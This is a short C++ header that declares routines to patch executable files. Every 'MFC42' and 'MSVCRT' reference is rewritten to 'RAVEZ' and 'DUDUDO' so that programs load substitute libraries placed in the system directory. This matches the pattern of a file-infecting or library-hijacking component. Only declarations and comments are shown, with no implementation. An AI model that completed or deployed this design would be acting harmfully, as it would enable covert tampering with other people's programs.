#pragma once
// Rewrites an executable's references to the shared runtime libraries so that
// it loads the private copies placed in the system directory.
#include <cstddef>
#include <cstdint>
#include <string_view>

namespace RuntimePatch {

// Longest reference less one: bytes a piece must keep back so that a
// reference cut by the end of a piece is still found with the next one.
constexpr std::size_t CarryBytes = 5;

// Only names ending in ".exe" or ".EXE" are patched; mixed case is not.
bool AppliesTo(std::string_view targetName);

// Every "MFC42" becomes "RAVEZ" and every "MSVCRT" becomes "DUDUDO",
// case-sensitively, where the whole reference lies inside the data.
void Apply(uint8_t* data, std::size_t length);

}  // namespace RuntimePatch
